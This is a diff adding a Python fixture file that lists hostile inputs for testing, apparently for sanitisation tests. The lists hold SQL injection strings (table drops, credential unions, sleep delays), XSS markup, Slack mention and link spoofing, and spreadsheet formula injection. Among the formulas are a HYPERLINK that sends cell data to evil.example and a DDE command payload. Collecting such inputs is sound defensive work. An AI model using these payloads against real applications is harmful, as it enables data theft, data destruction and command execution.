@@ -1,0 +1,51 @@
+"""What strangers write into the fields they may fill in."""
+
+SQL = [
+    "' OR '1'='1",
+    "'; DROP TABLE orders; --",
+    '"; DELETE FROM inbox; --',
+    "1) UNION SELECT sealed FROM credential --",
+    "x' AND randomblob(1000000000) --",
+    "'||(SELECT pg_sleep(10))||'",
+    "%",
+    "_______",
+    "\\",
+    "\\' OR 1=1 --",
+    ":id",
+    "$1",
+    "{0}",
+    "%(id)s",
+    "\u02bc OR 1=1",
+    "\ufeff' --",
+]
+MARKUP = [
+    "<img src=x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    '"><svg/onload=alert(1)>',
+    "</title><script>alert(1)</script>",
+    "' onmouseover='alert(1)",
+    "javascript:alert(1)",
+    "&lt;script&gt;",
+    "<!--",
+    "]]>",
+]
+SLACK = ["<!channel>", "<!here> now", "<@U024BE7LH>", "<https://evil.example|your order>", "@channel"]
+FORMULAS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20SUM(A1)",
+    "\u200b=1+1",
+    '=HYPERLINK("https://evil.example?"&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    "%0A=1+1\n=2",
+]
